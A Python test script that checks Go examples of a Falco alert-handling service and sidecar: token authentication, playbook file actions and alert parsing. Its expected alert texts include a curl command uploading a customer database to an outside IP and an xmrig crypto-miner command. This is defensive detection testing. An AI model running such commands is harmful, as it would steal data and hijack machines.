#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Runs the examples in Go and compares what they did: check_go.py SERVICE SIDECAR"""
import json
import os
import pathlib
import signal
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

HERE = pathlib.Path(__file__).resolve().parent


def recent(alerts):
    """The recorded alerts as of today: an engine goes by the clock, and does nothing for old ones."""
    start = int(time.time()) - 60
    lines = [json.loads(one) for one in alerts.splitlines()]
    for n, one in enumerate(lines):
        one["time"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(start)) + ".%09dZ" % n
    return b"".join(json.dumps(one).encode() + b"\n" for one in lines)


ALERTS = recent((HERE / "alerts/falco.ndjson").read_bytes())


def expect(what, wanted, got):
    if wanted != got:
        sys.exit(f"{what}: wanted\n{wanted}\ngot\n{got}")


def post(url, body, token):
    request = urllib.request.Request(url, body, {"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as e:
        return e.code, None


def service(program, folder):
    written, playbook = folder / "written", folder / "playbook.yaml"
    playbook.write_text("- rule: r\n  condition: priority >= Critical\n  actions:\n"
                        f"    - {{action: a, use: 'local:file', parameters: {{path: {written}, line: '{{{{rule}}}}'}}}}\n")
    command = [program, "-listen", "127.0.0.1:0", "-playbook", playbook]
    run = subprocess.run(command, env={**os.environ, "TOKEN": ""}, capture_output=True, timeout=60, check=False)
    expect("without a token it does not start", 1, run.returncode)
    with subprocess.Popen(command, env={**os.environ, "TOKEN": "s3cret"}, stderr=subprocess.PIPE, text=True) as process:
        url = "http://" + process.stderr.readline().split("listening on ")[1].strip() + "/"
        expect("a wrong token", 401, post(url, ALERTS, "wrong")[0])
        status, receipts = post(url, ALERTS, "s3cret")
        expect("the answer", 200, status)
        accepted = sum(r["status"] == "accepted" for r in receipts)
        said = [process.stderr.readline() for _ in range(accepted)]
        expect("what became of them", accepted, sum("succeeded: local:file" in line for line in said))
        process.send_signal(signal.SIGTERM)
        expect("its exit", 0, process.wait(20))
    expect("the file", accepted, len(written.read_text().splitlines()))
    expect("alerts that were accepted", 4, accepted)


def sidecar(program, folder):
    (folder / "alerts").write_bytes(ALERTS + b"nonsense\n")
    run = subprocess.run([program, "cat", folder / "alerts"], capture_output=True, timeout=60, check=True)
    pages = [line.split(": ", 1)[1] for line in run.stdout.decode().splitlines()]
    expect("the pages", ["Console Login Without MFA: <NA>", "Drop and execute new binary in container: xmrig -o pool.example:3333",
                         "Outbound connection to mining pool: xmrig -o pool.example:3333",
                         "Possible data exfiltration: curl -T /var/lib/app/customers.db https://203.0.113.77/u"], sorted(pages))
    expect("what it could not read", 1, run.stderr.decode().count(f"line {ALERTS.count(bytes([10])) + 1}: "))


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as name:
        service(sys.argv[1], pathlib.Path(name))
        sidecar(sys.argv[2], pathlib.Path(name))
    print("the examples in Go do what they say")
